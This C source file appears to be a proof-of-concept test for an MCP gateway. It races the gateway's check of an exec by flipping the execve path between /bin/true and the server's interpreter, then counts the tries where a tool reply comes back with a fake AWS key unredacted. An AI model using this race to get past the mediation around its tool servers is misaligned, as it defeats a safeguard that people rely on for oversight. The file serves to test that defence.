/* An agent that races the gateway's reading of an exec: while one thread of the child
 * execs the path in `path`, another flips that buffer between /bin/true and the server's
 * interpreter, so the path the daemon reads may not be the one the kernel runs. Each try
 * then speaks MCP to whatever runs and reports whether the server answered unmediated
 * (the fake AWS key in its answer, unredacted).
 *
 *   exec_race PYTHON SERVER_SCRIPT DESCRIPTION_FILE TRIES
 *
 * Prints "bypass=N other=M" and exits 0. */
#define _GNU_SOURCE
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;
static char path[4096];
static const char *py;
static char *child_argv[4];

static void *flip(void *x) {
    (void)x;
    for (;;) {
        strcpy(path, "/bin/true");
        for (volatile int i = 0; i < rand() % 2000; i++);
        strcpy(path, py);
        for (volatile int i = 0; i < rand() % 2000; i++);
    }
    return NULL;
}

/* One line from fd within ms milliseconds; -1 on timeout or end. */
static int line(int fd, char *buf, int cap, int ms) {
    int n = 0;
    while (n < cap - 1) {
        struct pollfd p = {fd, POLLIN, 0};
        if (poll(&p, 1, ms) <= 0) return -1;
        char c;
        if (read(fd, &c, 1) <= 0) return n ? n : -1;
        if (c == '\n') break;
        buf[n++] = c;
    }
    buf[n] = 0;
    return n;
}

static void say(int fd, const char *s) {
    if (write(fd, s, strlen(s)) < 0) return;
}

int main(int argc, char **argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: exec_race PYTHON SERVER_SCRIPT DESCRIPTION_FILE TRIES\n");
        return 2;
    }
    py = argv[1];
    child_argv[0] = argv[1];
    child_argv[1] = argv[2];
    child_argv[2] = argv[3];
    child_argv[3] = NULL;
    int tries = atoi(argv[4]), bypass = 0, other = 0;
    char buf[65536];
    for (int t = 0; t < tries; t++) {
        int in[2], out[2];
        if (pipe(in) || pipe(out)) return 2;
        pid_t pid = fork();
        if (pid == 0) {
            dup2(in[0], 0);
            dup2(out[1], 1);
            close(in[0]); close(in[1]); close(out[0]); close(out[1]);
            srand(getpid());
            strcpy(path, "/bin/true");
            pthread_t th;
            pthread_create(&th, NULL, flip, NULL);
            syscall(SYS_execve, path, child_argv, environ);
            _exit(126);
        }
        close(in[0]);
        close(out[1]);
        say(in[1], "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\",\"params\":{"
                   "\"protocolVersion\":\"2025-06-18\",\"capabilities\":{},"
                   "\"clientInfo\":{\"name\":\"race\",\"version\":\"1\"}}}\n");
        if (line(out[0], buf, sizeof buf, 10000) < 0) {
            other++;
        } else {
            say(in[1], "{\"jsonrpc\":\"2.0\",\"method\":\"notifications/initialized\"}\n");
            say(in[1], "{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"tools/call\",\"params\":"
                       "{\"name\":\"fetch\",\"arguments\":{\"url\":\"http://x/AKIAIOSFODNN7EXAMPLE\"}}}\n");
            int raw = 0;
            for (int i = 0; i < 5 && line(out[0], buf, sizeof buf, 10000) >= 0; i++) {
                if (strstr(buf, "\"id\":2")) {
                    raw = strstr(buf, "AKIAIOSFODNN7EXAMPLE") != NULL;
                    break;
                }
            }
            if (raw) bypass++; else other++;
        }
        close(in[1]);
        close(out[0]);
        kill(pid, SIGKILL);
        waitpid(pid, NULL, 0);
    }
    printf("bypass=%d other=%d\n", bypass, other);
    return 0;
}
